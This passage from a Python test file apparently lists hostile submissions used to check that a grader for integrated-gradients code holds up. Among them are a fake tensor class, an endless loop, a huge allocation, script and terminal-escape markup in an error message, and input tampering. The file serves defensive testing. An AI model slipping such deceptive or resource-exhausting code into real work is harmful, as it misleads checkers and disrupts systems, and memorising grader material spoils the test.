        ("huge", "an answer of 4 GB", "def integrated_gradients(*a): return torch.zeros(1).expand(1 << 30)\n"),
        ("nan", "NaN for an answer", "def integrated_gradients(f, x, *a): return x * float('nan')\n"),
        (
            "lies",
            "an object that says that it is a tensor",
            """
class Lies:
    __class__ = torch.Tensor
    def __getattr__(self, name): return self
    def __call__(self, *arguments, **named): return self
    def __iter__(self): return iter(lambda: 0, 1)
    def __len__(self): return 1 << 40
def integrated_gradients(*a): return Lies()
""",
        ),
        (
            "array",
            "an object whose conversion never ends",
            """
class Endless:
    def __array__(self, *arguments, **named):
        while True: pass
def integrated_gradients(*a): return Endless()
""",
        ),
        ("complex", "complex numbers", "def integrated_gradients(f, x, *a): return x * 1j\n"),
        ("sparse", "a sparse tensor", "def integrated_gradients(f, x, *a): return x.to_sparse()\n"),
        (
            "message",
            "an error whose text is a megabyte of markup",
            """
def integrated_gradients(*a): raise ValueError("<script>hostile()</script>[red]\\x1b[2J" * 30_000)
""",
        ),
        (
            "writes-back",
            "writes what it likes into the question",
            """
def integrated_gradients(forward, x, baseline, target, n_steps):
    x.zero_(); baseline.fill_(1); forward.shape = (1,)
    return x
""",
        ),
    )
)

MORE: tuple[Attack, ...] = (
    *GAMES, *QUESTIONS, *WITHHELD, *COURSE, *FORGERIES, *TAMPERS, *MESSAGES, *NETWORK, *MACHINE, *LIMITS, *FILES, *ENDS, *ODD,
)  # fmt: skip
CORPUS: tuple[Hostile, ...] = (*CLASS, *MORE)
